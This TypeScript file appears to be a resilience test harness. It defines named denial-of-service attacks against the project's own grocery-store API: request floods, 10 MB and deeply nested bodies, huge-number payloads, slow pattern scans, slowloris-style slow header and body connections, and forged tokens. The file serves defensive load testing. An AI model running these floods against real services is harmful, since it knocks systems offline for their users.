import { randomUUID } from 'node:crypto'
import { setTimeout as wait } from 'node:timers/promises'
import { type Attack, json } from './attack.ts'
import type { Attacker } from './attacker.ts'
import { budgetAttacks } from './budget-attacks.ts'
import { listAttacks } from './list-attacks.ts'
import { passwordAttacks } from './password-attacks.ts'
import { readerAttacks } from './reader-attacks.ts'
import { signAttacks } from './sign-attacks.ts'

const corrections = '/rest/v1/aisle_corrections'
const representation = { prefer: 'return=representation' }
/** A name of maximum length, with characters of three bytes each. */
const longName = '\u20ac'.repeat(100)
const rowsOfBody = 200
const hugeNumbers = `[${'1e131071,'.repeat(7_000)}1]`

/** Adds as many corrections as one response may contain, with names of maximum length. */
async function fillCorrections({ ask, shopper }: Attacker) {
  for (let from = 0; from < 1_000; from += rowsOfBody) {
    const rows = Array.from({ length: rowsOfBody }, (_, index) => ({
      store_id: 'target-1',
      item_key: `long-${from + index}`,
      item_name: longName,
      store_name: longName,
      sign: 'Aisle 1',
    }))
    const body = JSON.stringify(rows)
    await ask({ path: corrections, method: 'POST', headers: { ...shopper.headers, ...json }, body })
  }
}

function repeated(part: (index: number) => string, times: number): string {
  return Array.from({ length: times }, (_, index) => part(index)).join(',')
}

function readCorrections(select: string): Attack['run'] {
  return async (attacker) => {
    await fillCorrections(attacker)
    const { headers } = attacker.shopper
    await attacker.flood(20, { path: `${corrections}?select=${select}`, headers })
  }
}

/**
 * Holds this many connections open until the attack is over. Each connection sends `begin` first, and then
 * `drip` twice a second.
 */
async function hold({ open, isOver }: Attacker, count: number, begin: string, drip: string) {
  const sockets = Array.from({ length: count }, open)
  for (const socket of sockets) socket.pause().write(begin)
  while (!isOver()) {
    await wait(500)
    if (drip === '') continue
    for (const socket of sockets) if (socket.writable) socket.write(drip)
  }
  for (const socket of sockets) socket.destroy()
}

function headText(headers: Record<string, string>): string {
  return Object.entries({ Host: 'x', ...headers })
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')
}

export const attacks: Record<string, Attack> = {
  none: {
    name: 'No attack, as a baseline',
    run: async ({ isOver }) => {
      while (!isOver()) await wait(500)
    },
  },
  aliases: {
    name: 'One long column with 27 aliases, 20 at once',
    run: readCorrections(repeated((index) => `a${index}:item_name`, 27)),
  },
  stars: { name: '92 stars, 20 at once', run: readCorrections(repeated(() => '*', 92)) },
  'large-answers': {
    name: 'Responses beyond the limit, 20 at once',
    run: readCorrections(repeated((index) => `a${index}:item_name,b${index}:store_name`, 13)),
  },
  'allowed-answers': {
    name: 'The largest allowed responses, 20 at once',
    run: readCorrections(repeated((index) => `a${index}:item_name,b${index}:store_name`, 12)),
  },
  representation: {
    name: 'Updates of all corrections that return all of them, 20 at once',
    run: async (attacker) => {
      await fillCorrections(attacker)
      await attacker.flood(20, {
        path: `${corrections}?item_key=neq.0&select=item_name,store_name`,
        method: 'PATCH',
        headers: { ...attacker.shopper.headers, ...json, ...representation },
        body: '{"sign":"Aisle 2"}',
      })
    },
  },
  unread: {
    name: '50 connections request 20 large responses each and read none',
    run: async (attacker) => {
      await fillCorrections(attacker)
      const head = headText(attacker.shopper.headers)
      const asked = `GET ${corrections}?select=item_name,store_name HTTP/1.1\r\n${head}\r\n`
      await hold(attacker, 50, asked.repeat(20), '')
    },
  },
  numbers: {
    name: 'Bodies full of 1e131071, with and without an account, 20 at once',
    run: async ({ flood, shopper }) => {
      const headers = { ...json, prefer: 'missing=default' }
      await Promise.all([
        flood(10, {
          path: '/rest/v1/waitlist',
          method: 'POST',
          headers,
          body: `{"email":"ann@example.com","name":${hugeNumbers}}`,
        }),
        flood(10, {
          path: '/rest/v1/last_used_stores',
          method: 'POST',
          headers: { ...headers, ...shopper.headers },
          body: `{"store":{"a":${hugeNumbers}}}`,
        }),
      ])
    },
  },
  scans: {
    name: 'Anonymous clients compare every store with slow patterns and count them, 20 at once',
    run: ({ flood }) => {
      const pattern = `ilike.*${'a*'.repeat(30)}x`
      const filters = ['name', 'address', 'city'].map((column) => `${column}=${pattern}`)
      const path = `/rest/v1/stores?${filters.join('&')}&order=name,address,city`
      return flood(20, { path, headers: { prefer: 'count=exact' } })
    },
  },
  searches: {
    name: 'Store searches that bypass the function, 50 at once',
    run: ({ flood }) =>
      flood(50, {
        path: '/rest/v1/rpc/find_stores',
        method: 'POST',
        headers: json,
        body: '{"latitude":39,"longitude":-98,"max_stores":50,"name_part":"zz"}',
      }),
  },
  reads: {
    name: 'Reads without an account, 100 at once',
    run: ({ flood }) => flood(100, { path: '/rest/v1/stores?limit=1' }),
  },
  writes: {
    name: 'Writes of a shopper, 50 at once',
    run: ({ flood, shopper }) =>
      flood(50, {
        path: '/rest/v1/last_used_stores',
        method: 'POST',
        headers: { ...shopper.headers, ...json, prefer: 'resolution=merge-duplicates' },
        body: '{"store":{"id":"target-1"}}',
      }),
  },
  bodies: {
    name: 'Bodies of 10 MB, and nested bodies of 1 MB, 20 at once',
    run: async ({ flood }) => {
      const large = `{"name":"${'x'.repeat(10_000_000)}"}`
      const nested = `{"name":${'['.repeat(400_000)}${']'.repeat(400_000)}}`
      const asked = { method: 'POST', headers: json }
      await Promise.all([
        flood(5, { path: '/rest/v1/waitlist', ...asked, body: large }),
        flood(5, { path: '/auth/v1/signup', ...asked, body: large }),
        flood(10, { path: '/rest/v1/waitlist', ...asked, body: nested }),
      ])
    },
  },
  'list-texts': {
    name: 'Lists whose text is slow to parse, 20 at once',
    run: async ({ ask, isOver, shopper }) => {
      const headers = { ...shopper.headers, ...json }
      const writeAndRead = async () => {
        while (!isOver()) {
          const id = randomUUID()
          const made = { path: '/api/v1/lists', method: 'POST', headers }
          const status = await ask({ ...made, body: JSON.stringify({ id, name: 'Odd' }) })
          const body = JSON.stringify({ text: `${id} ${')['.repeat(950)} 1` })
          if (status === 201) await ask({ ...made, path: `/api/v1/lists/${id}/items`, body })
          else await wait(20)
        }
      }
      await Promise.all(Array.from({ length: 20 }, writeAndRead))
    },
  },
  tokens: {
    name: 'Forged tokens, 50 at once',
    run: ({ flood, shopper }) => {
      const authorization = `${shopper.headers['authorization']?.slice(0, -4)}AAAA`
      return flood(50, { path: corrections, headers: { authorization } })
    },
  },
  'slow-headers': {
    name: '500 connections send a header byte by byte for 40 s',
    durationMs: 40_000,
    run: (attacker) => hold(attacker, 500, 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ', 'x'),
  },
  'slow-bodies': {
    name: '500 connections send a body byte by byte for 40 s',
    durationMs: 40_000,
    run: (attacker) => {
      const head = headText({ ...json, 'Content-Length': '1000' })
      return hold(attacker, 500, `POST /rest/v1/waitlist HTTP/1.1\r\n${head}\r\n`, ' ')
    },
  },
  ...passwordAttacks,
  ...budgetAttacks,
  ...readerAttacks,
  ...listAttacks,
  ...signAttacks,
}
